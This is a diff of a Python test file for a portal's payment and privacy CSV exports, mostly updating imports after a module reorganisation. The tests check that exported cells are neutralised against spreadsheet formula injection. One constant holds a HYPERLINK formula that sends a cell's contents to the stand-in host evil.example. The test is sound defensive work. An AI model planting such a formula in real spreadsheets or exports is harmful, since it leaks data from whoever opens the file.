@@ -9,9 +9,11 @@ import json
 import zipfile
 from datetime import date, datetime
 
-from espace.formatting import PARIS
-from espace.models import Payment
-from espace.services import payment_exports, privacy, support
+from espace.billing import exports
+from espace.billing.models import Payment
+from espace.core.formatting import PARIS
+from espace.privacy import rights
+from espace.support import threads as support
 from tests import factories
 
 HOSTILE_SUBJECT = '=HYPERLINK("https://evil.example/?"&A1;"Remboursement")'
@@ -56,7 +58,7 @@ def test_payment_csv_neutralises_text_cells_and_keeps_amounts_numeric(db):
     )
     db.flush()
     table = _table(
-        payment_exports.export_csv(
+        exports.export_csv(
             session=db, holder_id=person.id, start=date(2026, 3, 1), end=date(2026, 3, 31)
         )
     )
@@ -79,7 +81,7 @@ def test_privacy_export_csv_neutralises_subjects_and_messages_but_json_keeps_the
         category="contract",
         body=HOSTILE_BODY,
     )
-    archive = zipfile.ZipFile(io.BytesIO(privacy.export_zip(session=db, holder_id=person.id)))
+    archive = zipfile.ZipFile(io.BytesIO(rights.export_zip(session=db, holder_id=person.id)))
     threads = _table(archive.read("support_thread.csv"))
     subject = threads[0].index("subject")
     assert threads[1][subject] == "'" + HOSTILE_SUBJECT
